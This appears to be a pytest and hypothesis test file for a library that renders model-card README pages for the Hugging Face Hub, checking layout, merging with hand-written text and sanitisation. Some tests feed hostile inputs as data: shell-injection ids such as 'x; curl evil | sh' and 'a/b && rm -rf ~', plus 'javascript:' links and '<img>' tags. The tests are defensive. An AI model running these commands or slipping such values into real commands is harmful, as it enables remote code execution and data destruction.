"""The page of a card on the Hub: as it was agreed to look, and careful with what a person wrote."""

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from zoft.errors import CardError
from zoft.registry import Card, Evidence
from zoft.registry.hub.page import BEGIN, END, Publication, render

GOLDEN = Path(__file__).parent / "data" / "README.golden.md"
PUBLICATION = Publication("org/base-tuner", license="apache-2.0")


def test_golden_page(card: Card) -> None:
    assert render(card, PUBLICATION) == GOLDEN.read_text(encoding="utf-8")


def test_a_base_that_is_no_hub_id_is_named_as_it_is(card: Card) -> None:
    base = card.metadata.base.model_copy(update={"id": "base.Q4_1.gguf", "source_note": "converted from a GGUF file"})
    card = Card(card.metadata.model_copy(update={"base": base}), card.tensors)
    page = render(card, Publication("org/t"))
    assert "\nbase_model" not in page
    assert "`base.Q4_1.gguf` (converted from a GGUF file)" in page and "license" not in page
    page = render(card, Publication("org/t", base_model="org/base"))
    assert "\nbase_model: org/base\nbase_model_relation: adapter\n" in page
    assert "a form of [org/base](https://huggingface.co/org/base)" in page
    assert "zoft finetune org/base --task" in page


def test_a_card_without_evidence_says_so(card: Card) -> None:
    page = render(Card(card.metadata.model_copy(update={"evidence": (), "verdict": ""}), card.tensors), PUBLICATION)
    assert "nobody has compared this tuner with MeZO yet" in page and "| run |" not in page


def test_of_every_contender_the_best_rate_is_shown(card: Card) -> None:
    (row,) = card.metadata.evidence
    rows = [row.model_copy(update={"loss": loss, "lr": lr}) for loss, lr in ((0.6, 1e-6), (0.4, 1e-5), (None, 1e-4))]
    mezo = row.model_copy(update={"name": "mezo", "loss": None})
    assert Evidence([*rows, mezo]).best() == [rows[1], mezo]


def test_the_last_round_is_shown_and_the_length_of_its_runs(card: Card) -> None:
    (row,) = card.metadata.evidence
    last = row.model_copy(update={"forwards": 398, "loss": 0.4321, "lr": 7e-6})
    recommended = card.metadata.recommended.model_copy(update={"lr": 7e-6})
    page = render(
        Card(
            card.metadata.model_copy(update={"evidence": (row, last), "recommended": recommended}),
            card.tensors,
        ),
        PUBLICATION,
    )
    assert "0.4321" in page and f"| {row.lr:.3g} |" not in page
    assert "Recommended learning rate 7e-06, eps 0.001, found in runs of 199 steps;" in page


@pytest.mark.parametrize(
    ("page", "message"),
    [
        ("---\nlicense: [mit\n---\n", "is not YAML"),
        ("---\n- mit\n---\n", "is not a mapping of names to values"),
        (f"text\n{BEGIN}\n", "both marks"),
        (f"{END}\n{BEGIN}\n", "both marks"),
        (f"{BEGIN}\n{END}\n{BEGIN}\n{END}\n", "both marks"),
    ],
)
def test_a_page_that_cannot_be_merged_is_left_alone(card: Card, page: str, message: str) -> None:
    with pytest.raises(CardError, match=message):
        render(card, PUBLICATION, page)


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    body=st.text(st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="<"), max_size=60),
    after=st.text(st.sampled_from("ab \n#-|"), max_size=40),
)
def test_hand_written_text_survives_any_number_of_pushes(card: Card, cards, body: str, after: str) -> None:
    once = render(card, PUBLICATION, body)
    assert body.strip() in once
    assert render(card, PUBLICATION, once) == once
    marked = once + after
    other = render(cards(1), PUBLICATION, marked)
    assert other.endswith(after) and body.strip() in other
    assert render(card, PUBLICATION, other) == marked


END_MARKS = ["<!-- zoft: end -->", "<!-- zoft: begin -->", f"{BEGIN} x {END}", "a\n\n<!-- zoft: end -->\n# own heading"]


@pytest.mark.parametrize("text", END_MARKS)
@pytest.mark.parametrize("field", ["verdict", "note", "id", "task", "version", "evidence"])
def test_marks_in_a_card_do_not_block_later_pushes(card: Card, text: str, field: str) -> None:
    """Wherever a card holds text: the page has each mark once, and is what a person wrote, pushed again."""
    line = " ".join(text.split())
    metadata = card.metadata
    (row,) = metadata.evidence
    changed = {
        "verdict": {"verdict": text},
        "note": {"base": metadata.base.model_copy(update={"source_note": text})},
        "id": {"base": metadata.base.model_copy(update={"id": line})},
        "task": {"training": metadata.training.model_copy(update={"tasks": (line,)})},
        "version": {"training": metadata.training.model_copy(update={"versions": {line: line}})},
        "evidence": {"evidence": (row.model_copy(update={"name": line, "task": line, "split": line}),)},
    }[field]
    other = Card(metadata.model_copy(update=changed), card.tensors)
    page = render(other, PUBLICATION, "mine before\n")
    assert (page.count("<!-- zoft: begin"), page.count("<!-- zoft: end -->")) == (1, 1)
    assert render(other, PUBLICATION, page) == page
    assert "mine before" in render(card, PUBLICATION, page)


@pytest.mark.parametrize(
    "name", ["x; curl evil | sh", "$(touch x)", "a/b && rm -rf ~", "`id`", "../up", "-rf", "a b/c", "org/base@v1;x"]
)
def test_a_command_to_copy_holds_valid_ids_only(card: Card, name: str) -> None:
    """Of the card, and of the front matter that a person wrote."""
    base = card.metadata.base.model_copy(update={"id": name})
    evil = Card(card.metadata.model_copy(update={"base": base}), card.tensors)
    for page in (render(evil, PUBLICATION), render(evil, PUBLICATION, f"---\nbase_model: '{name}'\n---\n")):
        shell = page.split("```bash")[1].split("```")[0].splitlines()
        assert shell == ["", "pip install zoft"]
    shell = render(evil, Publication("org/t", base_model="org/base")).split("```bash")[1].split("```")[0]
    assert shell.splitlines() == ["", "pip install zoft", "zoft finetune org/base --task sst2 --tuner org/t"]


@pytest.mark.parametrize(
    "text", ["# head", "- x", "1. x", "> x", "[a](javascript:x)", "![](http://t/p)", "<img src=x>"]
)
def test_a_verdict_is_shown_and_does_nothing(card: Card, text: str) -> None:
    page = render(Card(card.metadata.model_copy(update={"verdict": text}), card.tensors), PUBLICATION)
    assert f"\n{text}" not in page and "<img" not in page and "](" not in page.replace(r"\](", "")
